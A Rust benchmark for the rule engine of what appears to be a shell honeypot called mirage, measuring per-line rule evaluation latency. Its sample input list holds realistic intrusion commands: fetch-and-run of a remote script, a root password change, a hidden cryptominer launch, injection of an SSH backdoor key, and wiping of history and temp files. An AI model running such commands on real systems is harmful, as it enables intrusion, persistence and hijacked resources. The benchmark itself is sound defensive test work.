//! Layer 0 reflex latency: one input line judged against 200 rules (regexes, substrings,
//! programs, rates, event rules), as the session does before the shell runs each line.
//!
//! `cargo bench --bench reflex`. Criterion reports the mean per line; the run then times
//! 200,000 single evaluations with `Instant` and prints p50, p99 and p99.9, since the target
//! (issue 6) is a p99 under 50 µs.

use std::collections::BTreeSet;
use std::hint::black_box;
use std::net::IpAddr;
use std::time::{Duration, Instant};

use chrono::{DateTime, Utc};
use criterion::{Criterion, criterion_group};
use mirage::models::reflex::{Buckets, Occurrence, Rules, SessionRng, Subject};

/// Lines as bots and people type them (from the shapes in `scenarios/`).
const LINES: &[&str] = &[
    "uname -a",
    "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "ls -lh $(which ls)",
    "crontab -l",
    "w",
    "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.9/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 198.51.100.9 -c get tftp1.sh",
    "echo \"root:Xk29sLq0p\"|chpasswd|bash",
    "cat /etc/passwd",
    "ps x | grep stratum | grep -v grep | wc -l",
    "/bin/busybox ECCHI",
    "enable; system; shell; sh; cat /proc/mounts; /bin/busybox PEACH",
    "rm -rf /tmp/* /var/tmp/* ; history -c",
    "nproc",
    "(exec /var/tmp/.wx/1 -a cryptonight -o stratum+tcp://pool.example.invalid:3333 -u w -p x &> /dev/null &)",
    "mkdir -p ~/.ssh && echo ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC0 mdrfckr >> ~/.ssh/authorized_keys && chmod -R go= ~/.ssh",
    "cat /proc/1/cgroup",
    "top -bn1 | head -n 5",
    "export HISTFILE=/dev/null; unset HISTFILE",
    "lscpu | grep Model",
];

/// 200 rules: 80 regexes, 60 substrings, 20 program lists, 20 rate-limited, 20 on events.
fn rules() -> Rules {
    let mut text = String::new();
    for n in 0..80 {
        text.push_str(&format!(
            "[[rule]]\nname = \"re-{n}\"\nregex = '(^|[;&|]\\s*)(sudo\\s+)?tool{n}\\s+-[a-z]*x\\b'\nactions = [{{ latency = {{ min_ms = 10, max_ms = 90 }} }}]\n\n"
        ));
    }
    for n in 0..60 {
        text.push_str(&format!(
            "[[rule]]\nname = \"has-{n}\"\ncontains = \"marker-{n}.example\"\nactions = [{{ tag = \"m{n}\" }}]\n\n"
        ));
    }
    for n in 0..20 {
        text.push_str(&format!(
            "[[rule]]\nname = \"prog-{n}\"\nprograms = [\"prog{n}\", \"alt{n}\"]\nactions = [{{ alert = \"info\" }}]\n\n"
        ));
    }
    for n in 0..20 {
        text.push_str(&format!(
            "[[rule]]\nname = \"rate-{n}\"\nregex = '\\b(wget|curl|cat|echo|ls|ps|uname|free)\\b'\nrate = {{ per = \"ip\", burst = 1000000, per_minute = 60 }}\nactions = [{{ latency = {{ ms = 100 }} }}]\n\n"
        ));
    }
    for n in 0..20 {
        text.push_str(&format!(
            "[[rule]]\nname = \"event-{n}\"\non = \"download\"\ncontains = \"host{n}.example\"\nactions = [{{ tag = \"d{n}\" }}]\n\n"
        ));
    }
    let rules = Rules::parse("bench rules", &text).expect("bench rules compile");
    assert_eq!(rules.len(), 200);
    rules
}

struct Bench {
    rules: Rules,
    buckets: Buckets,
    rng: SessionRng,
    tags: BTreeSet<String>,
    ip: IpAddr,
    now: DateTime<Utc>,
}

impl Bench {
    fn new() -> Bench {
        Bench {
            rules: rules(),
            buckets: Buckets::new(),
            rng: SessionRng::new(7),
            tags: BTreeSet::new(),
            ip: "203.0.113.7".parse().unwrap(),
            now: DateTime::from_timestamp(1_767_000_000, 0).unwrap(),
        }
    }

    fn judge(&mut self, line: &str) -> usize {
        let who = Subject {
            ip: self.ip,
            credential: "root:",
            tags: &self.tags,
        };
        let verdict = self.rules.evaluate(
            Occurrence::Line(line),
            &who,
            self.now,
            &mut self.buckets,
            &mut self.rng,
        );
        verdict.fired.len()
    }
}

fn per_line(c: &mut Criterion) {
    let mut bench = Bench::new();
    let mut i = 0;
    c.bench_function("reflex: one line, 200 rules", |b| {
        b.iter(|| {
            i = (i + 1) % LINES.len();
            black_box(bench.judge(black_box(LINES[i])))
        })
    });
}

criterion_group!(benches, per_line);

/// Times `n` single evaluations; returns them sorted.
fn sample(n: usize) -> Vec<Duration> {
    let mut bench = Bench::new();
    for line in LINES {
        bench.judge(line); // warm the regex caches
    }
    let mut times = Vec::with_capacity(n);
    for i in 0..n {
        let line = LINES[i % LINES.len()];
        let start = Instant::now();
        black_box(bench.judge(black_box(line)));
        times.push(start.elapsed());
    }
    times.sort_unstable();
    times
}

fn main() {
    benches();
    Criterion::default().configure_from_args().final_summary();
    let times = sample(200_000);
    let at = |q: f64| times[((times.len() as f64 * q) as usize).min(times.len() - 1)];
    println!(
        "reflex per line, 200 rules, {} evaluations: p50 {:?}, p99 {:?}, p99.9 {:?}, max {:?}",
        times.len(),
        at(0.50),
        at(0.99),
        at(0.999),
        times[times.len() - 1]
    );
}
